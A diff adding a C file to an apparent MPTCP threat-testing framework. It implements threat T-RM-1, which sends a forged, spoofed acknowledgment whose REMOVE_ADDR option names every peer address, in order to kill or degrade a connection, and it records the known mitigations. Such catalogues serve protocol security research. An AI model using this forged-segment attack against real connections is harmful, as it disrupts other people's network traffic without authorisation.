@@ -1,0 +1,64 @@
+/* threats/rm_1.c: T-RM-1, a forged REMOVE_ADDR. */
+#include "threats/record.h"
+
+/* The initial pair has ID 0; a client's second address is 2 on a Linux with one endpoint, but every small
+ * number fits into the one option (RFC 8684 §3.4.2). */
+enum { IDS = 9 };
+
+static void try_remove(struct plait_attack *a, const struct plait_numbers *numbers, void *argument)
+{
+    (void)argument;
+    struct plait_segment remove = plait_forged(numbers, PLAIT_ACK);
+    struct plait_remove_addr *option =
+        &plait_add_option(&remove, PLAIT_REMOVE_ADDR)->remove_addr;
+    option->count = IDS;
+    for (uint8_t i = 0; i < IDS; i++)
+        option->addr_ids[i] = i;
+    plait_send(a, &remove);
+}
+
+static void run(struct plait_attack *a)
+{
+    plait_take_position(a);
+    struct plait_numbers numbers =
+        plait_get_numbers(a, 0, PLAIT_ACCEPT_IN_WINDOW, try_remove, NULL);
+    plait_step(a, "removes every address of the peer in the peer's name");
+    try_remove(a, &numbers, NULL);
+    plait_pause(a, 100 * PLAIT_MS);
+    plait_mark(a);
+}
+
+#define GOALS (PLAIT_GOAL_BIT(KILL) | PLAIT_GOAL_BIT(DEGRADE))
+
+#define CASE(where, load)                                                                          \
+    {                                                                                              \
+        .form = "-", .position = where, .spoofing = true, .victim = PLAIT_SERVER, .workload = load, \
+        .paths = 2, .goals = GOALS, .script = run, .witnesses = {PLAIT_GRANT_NUMBERS},             \
+        .watch_ns = 3 * PLAIT_S                                                                    \
+    }
+
+static const struct plait_case cases[] = {
+    CASE("ON1-E", PLAIT_BULK),
+    CASE("OFF", PLAIT_BULK),
+};
+
+const struct plait_threat plait_threat_rm_1 = {
+    .info =
+        {
+            .id = "T-RM-1",
+            .title = "Forged REMOVE_ADDR",
+            .kind = "threat",
+            .source = "RFC 8684 §3.4.2",
+            .section = SECTION_CONTROL,
+            .summary = "One acknowledgment with REMOVE_ADDR, which carries no proof, names every "
+                       "address of the peer.",
+            .positions = PLAIT_LIST("ON1-E", "OFF"),
+            .goals = PLAIT_LIST("kill", "degrade"),
+            .mechanisms = PLAIT_LIST("v0", "v1"),
+            .host_risk = "none",
+            .stopped_by_text = "the keepalive of RFC 8684 §3.4.2 (N35), M9 protected options",
+            .remains_text = "the address may stay unused for the rest of the connection",
+            .wire_blind_text = "",
+        },
+    PLAIT_CASES(cases),
+};
